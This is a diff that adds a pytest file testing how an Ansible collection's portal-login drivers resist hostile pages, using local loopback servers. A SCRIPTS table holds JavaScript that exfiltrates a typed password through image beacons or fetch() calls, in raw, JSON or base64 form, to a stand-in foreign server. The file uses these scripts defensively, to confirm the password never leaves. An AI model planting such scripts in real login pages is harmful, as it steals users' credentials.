@@ -1,0 +1,326 @@
+# Copyright (c) 2026, labops.cloudresearch contributors
+# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""What the drivers do on the wire, against pages that are worse than any site's."""
+
+from __future__ import annotations
+
+import dataclasses
+import email.utils
+import http.server
+import pathlib
+import threading
+import time
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+
+from ansible_collections.labops.cloudresearch.plugins.module_utils.errors import CollectionError
+from ansible_collections.labops.cloudresearch.plugins.module_utils.portal import link
+from tests.stack.portal_site import CHROMIUM, KEY, PASSWORD, SECRET
+
+FORM = (
+    "<title>Log in</title><form {}><label>Email<input name=e></label>"
+    "<label>Password<input type=password name=p></label>{}</form>"
+)
+BUTTON = "<button>Log in</button>"
+HOME = "<title>Home</title><a href=/link>Link Mechanical Turk</a>"
+LINK_FORM = (
+    "<title>Link Mechanical Turk</title><h1>Link Mechanical Turk</h1>"
+    "<form method=post action=/link><label>Access Key ID<input name=a></label><label>Secret Access Key<input name=s></label><button>Submit</button></form>"
+)
+
+
+@dataclasses.dataclass
+class Request:
+    method: str
+    path: str
+    body: str
+    headers: dict[str, str]
+
+
+Answer = str | tuple[int, dict[str, str], str] | Callable[[Request], Any]
+
+
+class Site:
+    """A server on one loopback address whose answers a test writes down."""
+
+    def __init__(self, host: str) -> None:
+        self.answers: dict[str, Answer] = {}
+        self.requests: list[Request] = []
+        site = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def log_message(self, *_arguments: Any) -> None:
+                """Nothing on the terminal."""
+
+            def answer(self) -> None:
+                body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
+                headers = {name.title(): value for name, value in self.headers.items()}
+                request = Request(self.command, self.path, body, headers)
+                if self.path != "/favicon.ico":
+                    site.requests.append(request)
+                answer = site.answers.get(self.path.split("?")[0], (404, {}, "nothing here"))
+                answer = answer(request) if callable(answer) else answer
+                status, headers, text = (200, {}, answer) if isinstance(answer, str) else answer
+                content = text.encode()
+                self.send_response(status)
+                for name, value in {"Content-Type": "text/html; charset=utf-8", **headers}.items():
+                    self.send_header(name, value)
+                self.send_header("Content-Length", str(len(content)))
+                self.end_headers()
+                self.wfile.write(content)
+
+            do_GET = do_POST = do_OPTIONS = answer
+
+        self.server = http.server.ThreadingHTTPServer((host, 0), Handler)
+        self.url = f"http://{host}:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()
+
+    def saw(self, text: str) -> bool:
+        return any(text in request.path + request.body + repr(request.headers) for request in self.requests)
+
+
+@pytest.fixture
+def sites() -> Iterator[tuple[Site, Site]]:
+    own, foreign = Site("127.0.0.1"), Site("127.0.0.2")
+    yield own, foreign
+    own.server.shutdown()
+    foreign.server.shutdown()
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Any]:
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        yield browser
+        browser.close()
+
+
+Run = Callable[..., link.LinkResult]
+
+
+def runner(driver: str, directory: pathlib.Path, browser: Any = None) -> Run:
+    def run(site: Site, **options: Any) -> link.LinkResult:
+        settings = link.PortalSettings.from_params(
+            {"portal_url": site.url, "driver": driver, "state_dir": str(directory / "state"), "timeout": 20, **options}
+        )
+        account = link.PortalAccount("pi@uni.example", PASSWORD)
+        return link.ensure_present(settings, account, KEY, SECRET, browser=browser)
+
+    return run
+
+
+@pytest.fixture
+def over_http(tmp_path: pathlib.Path) -> Run:
+    return runner("http", tmp_path)
+
+
+@pytest.fixture
+def in_browser(tmp_path: pathlib.Path, chromium: Any) -> Run:
+    return runner("browser", tmp_path, chromium)
+
+
+@pytest.fixture(params=["http", "browser"])
+def run(request: pytest.FixtureRequest) -> Run:
+    found: Run = request.getfixturevalue("over_http" if request.param == "http" else "in_browser")
+    return found
+
+
+def good_site(site: Site) -> None:
+    site.answers = {
+        "/": FORM.format("method=post action=/login", BUTTON),
+        "/login": (303, {"Location": "/home"}, ""),
+        "/home": HOME,
+        "/link": lambda request: LINK_FORM + ("<p role=status>Success</p>" if request.method == "POST" else ""),
+    }
+
+
+def test_it_says_who_it_is(sites: tuple[Site, Site], run: Run) -> None:
+    own, _foreign = sites
+    good_site(own)
+    assert run(own).link.evidence == "page"
+    assert all("labops.cloudresearch/" in request.headers["User-Agent"] for request in own.requests)
+    assert [(request.method, request.path) for request in own.requests] == [
+        ("GET", "/"),
+        ("POST", "/login"),
+        ("GET", "/home"),
+        ("GET", "/link"),
+        ("POST", "/link"),
+    ]
+
+
+def test_a_password_never_becomes_part_of_an_address(sites: tuple[Site, Site], run: Run) -> None:
+    own, _foreign = sites
+    own.answers = {"/": FORM.format("action=/login", BUTTON), "/login": HOME}
+    with pytest.raises(CollectionError) as caught:
+        run(own)
+    assert caught.value.reason == "page_changed"
+    assert not own.saw("correct")
+
+
+def test_what_netrc_has_for_the_host_is_not_sent(
+    sites: tuple[Site, Site], over_http: Run, tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    own, _foreign = sites
+    good_site(own)
+    netrc = tmp_path / "netrc"
+    netrc.write_text("machine 127.0.0.1 login someone password else\n")
+    netrc.chmod(0o600)
+    monkeypatch.setenv("NETRC", str(netrc))
+    over_http(own)
+    assert not any("Authorization" in request.headers for request in own.requests)
+
+
+@pytest.mark.parametrize("status", [302, 303, 307, 308])
+def test_redirects_of_a_password_to_another_site(sites: tuple[Site, Site], run: Run, status: int) -> None:
+    own, foreign = sites
+    good_site(own)
+    own.answers["/login"] = (status, {"Location": f"{foreign.url}/collect"}, "")
+    foreign.answers["/collect"] = "<h1>Thank you</h1>"
+    with pytest.raises(CollectionError):
+        run(own)
+    assert not foreign.saw("correct")
+    assert all(request.method == "GET" for request in foreign.requests)
+
+
+def test_a_redirect_that_repeats_the_form_is_followed_within_the_site(sites: tuple[Site, Site], run: Run) -> None:
+    own, _foreign = sites
+    good_site(own)
+    own.answers["/login"] = (307, {"Location": "/login2"}, "")
+    own.answers["/login2"] = (303, {"Location": "/home"}, "")
+    assert run(own).link.status == "linked"
+    assert any(request.path == "/login2" and "correct" in request.body for request in own.requests)
+
+
+def test_a_listed_host_may_have_the_sign_in(sites: tuple[Site, Site], run: Run) -> None:
+    own, foreign = sites
+    good_site(own)
+    own.answers["/"] = (302, {"Location": f"{foreign.url}/"}, "")
+    foreign.answers = {
+        "/": FORM.format("method=post action=/login", BUTTON),
+        "/login": (303, {"Location": f"{own.url}/home"}, ""),
+    }
+    with pytest.raises(CollectionError, match=r"127\.0\.0\.2"):
+        run(own)
+    assert not foreign.saw("correct")
+    assert run(own, trusted_hosts=["127.0.0.2"]).link.status == "linked"
+
+
+TYPED = "document.querySelector('[name=p]').value"
+SENT = "fetch('{url}/x', {{method: 'POST', mode: 'no-cors', body: "
+SCRIPTS = {
+    "an address": "new Image().src = '{url}/x?p=' + encodeURIComponent(" + TYPED + ")",
+    "a body": SENT + TYPED + "}})",
+    "JSON": SENT + "JSON.stringify({{p: " + TYPED + "}})}})",
+    "base64": SENT + "btoa(" + TYPED + ")}})",
+    "the form's own address": "this.form.action = '{url}/x'",
+}
+
+
+@pytest.mark.parametrize("name", SCRIPTS)
+def test_a_script_cannot_carry_the_password_away(sites: tuple[Site, Site], in_browser: Run, name: str) -> None:
+    own, foreign = sites
+    good_site(own)
+    script = SCRIPTS[name].format(url=foreign.url)
+    own.answers["/"] = FORM.format("method=post action=/login", f'<button onclick="{script}">Log in</button>')
+    with pytest.raises(CollectionError) as caught:
+        in_browser(own)
+    assert caught.value.reason == "page_changed"
+    assert not foreign.saw("correct")
+    assert not foreign.saw("Y29ycmVjd")
+
+
+def test_a_redirect_to_an_unencrypted_site_is_not_followed(sites: tuple[Site, Site], run: Run) -> None:
+    own, _foreign = sites
+    own.answers["/"] = (302, {"Location": "http://portal.example.invalid/"}, "")
+    with pytest.raises(CollectionError) as caught:
+        run(own)
+    assert caught.value.reason in ("page_changed", "portal_unavailable")
+
+
+def test_redirects_in_a_circle_end(sites: tuple[Site, Site], run: Run) -> None:
+    own, _foreign = sites
+    own.answers["/"] = (302, {"Location": "/a"}, "")
+    own.answers["/a"] = (302, {"Location": "/"}, "")
+    with pytest.raises(CollectionError) as caught:
+        run(own, timeout=8)
+    assert caught.value.reason in ("page_changed", "portal_unavailable")
+    assert len(own.requests) < 100
+
+
+@pytest.mark.parametrize("status", [429, 503])
+@pytest.mark.parametrize("kind", ["seconds", "date"])
+def test_retry_after_is_waited_for(sites: tuple[Site, Site], over_http: Run, status: int, kind: str) -> None:
+    own, _foreign = sites
+    good_site(own)
+    first = own.answers["/"]
+    value = "1" if kind == "seconds" else email.utils.formatdate(time.time() + 2, usegmt=True)
+
+    def once(_request: Request) -> Any:
+        own.answers["/"] = first
+        return status, {"Retry-After": value}, "<h1>Slow down</h1>"
+
+    own.answers["/"] = once
+    start = time.monotonic()
+    assert over_http(own).link.status == "linked"
+    assert time.monotonic() - start >= 0.9
+
+
+def test_a_wait_that_is_too_long_is_told(sites: tuple[Site, Site], run: Run) -> None:
+    own, _foreign = sites
+    own.answers["/"] = (503, {"Retry-After": "3600"}, "<h1>Down for maintenance</h1>")
+    with pytest.raises(CollectionError) as caught:
+        run(own)
+    assert caught.value.reason == "portal_unavailable"
+    assert caught.value.details["retry_after"] == 3600
+    assert len(own.requests) == 1
+
+
+def test_a_page_that_never_ends_is_cut_off(sites: tuple[Site, Site], over_http: Run) -> None:
+    own, _foreign = sites
+
+    def slow(_request: Request) -> str:
+        time.sleep(4)
+        return "late"
+
+    own.answers["/"] = slow
+    start = time.monotonic()
+    with pytest.raises(CollectionError) as caught:
+        over_http(own, timeout=2)
+    assert caught.value.reason == "timeout"
+    assert time.monotonic() - start < 4
+
+
+def test_a_style_sheet_settles_what_looks_ambiguous(sites: tuple[Site, Site], over_http: Run) -> None:
+    own, _foreign = sites
+    good_site(own)
+    own.answers["/site.css"] = (200, {"Content-Type": "text/css"}, ".honey { position: absolute; left: -10000px }")
+    own.answers["/"] = "<link rel=stylesheet href=/site.css>" + FORM.format(
+        "method=post action=/login", "<div class=honey><label>Email<input name=trap></label></div>" + BUTTON
+    )
+    assert over_http(own).link.status == "linked"
+    (login,) = [request for request in own.requests if request.path == "/login"]
+    assert "trap=&" in login.body + "&"
+
+
+def test_a_form_without_a_button_is_sent(sites: tuple[Site, Site], run: Run) -> None:
+    own, _foreign = sites
+    good_site(own)
+    one_field = "<title>Log in</title><form method=post action=/{}><label>{}<input name=x type={}></label></form>"
+    own.answers["/"] = one_field.format("next", "Email", "email")
+    own.answers["/next"] = one_field.format("login", "Password", "password")
+    assert run(own).link.status == "linked"
+
+
+def test_cookies_come_back(sites: tuple[Site, Site], over_http: Run) -> None:
+    own, _foreign = sites
+    good_site(own)
+    own.answers["/login"] = (303, {"Location": "/home", "Set-Cookie": "session=abc; HttpOnly"}, "")
+    over_http(own)
+    assert own.requests[-1].headers["Cookie"] == "session=abc"
